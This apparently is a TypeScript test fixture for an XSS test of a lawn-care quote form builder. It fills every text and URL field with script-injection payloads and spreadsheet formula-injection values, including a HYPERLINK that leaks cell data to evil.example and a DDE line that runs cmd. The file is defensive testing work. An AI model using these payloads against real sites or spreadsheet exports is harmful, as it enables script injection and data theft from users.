import { defaultFormDocument } from "@yq/form-schema/defaults";
import type { FormDocument } from "@yq/form-schema/form-document";
import { richText as asRichText } from "@yq/form-schema/rich-text";

// Script and event-handler payloads for the XSS journey. Every payload starts with a marker
// naming its field, so a payload that ever runs says where it came from (window.__xss = marker),
// and a payload shown as text can be found on the page by its marker.

/** Markup that runs if any renderer treats the text as HTML (attribute, element or inline JSON). */
export function hostile(marker: string): string {
  return (
    `${marker} <img src=x onerror="window.__xss='${marker}';alert(1)"> ` +
    `"><svg onload="window.__xss='${marker}'"> ` +
    `</script><script>window.__xss='${marker}'</script>`
  );
}

/** Under 120 characters, for the profile names. */
export const hostileShort = (marker: string) =>
  `${marker} <img src=x onerror="window.__xss='${marker}'"><svg onload="window.__xss='${marker}'">`;

/** For URL fields: followed, linked or loaded, it runs. */
const hostileUrl = (marker: string) => `javascript:window.__xss='${marker}'`;

/** A visitor email with markup that still passes the form's email check (no spaces, one @). */
export const hostileEmail = `"><svg/onload=window.__xss='v-email'>@evil.example`;

// Typed as rich text on purpose: this is what a hostile browser could send as the owner's HTML.
const richText = (marker: string) =>
  asRichText(
    `<p>${marker} <img src=x onerror="window.__xss='${marker}'"> <a href="${hostileUrl(marker)}">click</a>` +
      ` <a href="https://example.com" onclick="window.__xss='${marker}'">ok</a></p>` +
      `<script>window.__xss='${marker}'</script><p>"><svg onload="window.__xss='${marker}'"></p>`,
  );

const TEXT_KEYS = [
  "formTitle",
  "formDescription",
  "cardTitle",
  "cardDescription",
  "submitButton",
  "acceptMessage",
  "declineMessage",
  "offerHeadline",
  "quoteDisclaimer",
  "acceptButton",
  "declineButton",
] as const;

/**
 * A publishable document with a payload in every text setting and every URL setting. Colours
 * are not free text (the schema allows only colour characters), so they stay as they are.
 */
export function hostileDocument(formType: FormDocument["formType"] = "mowing_quote"): FormDocument {
  const doc = defaultFormDocument();
  doc.formType = formType;
  doc.status = "published";
  doc.name = hostile("f-name");
  doc.description = hostile("f-description");
  doc.notificationSettings = { email: "owner@greenlawns.example", notifications_enabled: true };
  doc.customerFields.consent = {
    enabled: true,
    text: hostile("consent-text"),
    richText: richText("consent-rich"),
    links: [{ text: hostile("consent-link-text"), url: hostileUrl("consent-link-url") }],
  };
  for (const type of ["mowing", "landscaping"] as const) {
    Object.assign(doc.services[type], {
      enabled: true,
      name: hostile(`s-${type}-name`),
      description: hostile(`s-${type}-description`),
      image: hostileUrl(`s-${type}-image`),
    });
  }
  for (const size of ["small", "medium", "large", "custom"] as const) {
    const settings = doc.yardSizes[size];
    settings.enabled = true;
    settings.description = hostile(`y-${size}-description`);
    settings.media = hostileUrl(`y-${size}-media`);
    settings.services = [
      ...settings.services.filter((s) => s.name !== ""),
      { name: hostile(`y-${size}-included`), enabled: true },
    ];
  }
  for (const key of TEXT_KEYS) {
    doc.customization.textContent[key] =
      key === "quoteDisclaimer" || key.endsWith("Message") ? richText(`t-${key}`) : asRichText(hostile(`t-${key}`));
  }
  doc.redirectSettings = { enabled: true, url: hostileUrl("redirect-url"), openInNewTab: false };
  doc.upsellSettings = {
    enabled: true,
    upsellMessage: asRichText(hostile("u-message")),
    upsellLink: hostileUrl("u-link"),
    services: [
      { id: "u1", name: hostile("u-service-1"), enabled: true, order: 0, price: null, unit: "visit" },
      { id: "u2", name: hostile("u-service-2"), enabled: true, order: 1, price: null, unit: "visit" },
    ],
  };
  return doc;
}

/** What a visitor types: markup in every free-text field, formula starts for the CSV. */
export const VISITOR_A = {
  name: hostile("v-name-a"),
  email: hostileEmail,
  // Phone and zip only take their own formats; "+1" is still a formula start in a spreadsheet.
  phone: "+1 (555) 123-4567",
  street: hostile("v-street-a"),
  city: hostile("v-city-a"),
  state: hostile("v-state-a"),
  zipcode: "62701",
};

export const VISITOR_B = {
  name: `=HYPERLINK("https://evil.example/?leak="&A1,"Open") ${hostile("v-name-b")}`,
  email: "lee-b@example.com",
  phone: "555-987-6543",
  street: "-2+3+cmd|' /C calc'!A0",
  city: "+SUM(1,1)",
  state: "@SUM(1,1)",
  zipcode: "62702",
  projectDetails: hostile("v-project-b"),
};

/** The third visitor, on the plain snippet: B's answers under another name, without an address. */
export const VISITOR_C = {
  ...VISITOR_B,
  name: "Cory Decline",
  email: "cory@example.com",
  street: "",
  city: "",
  state: "",
};
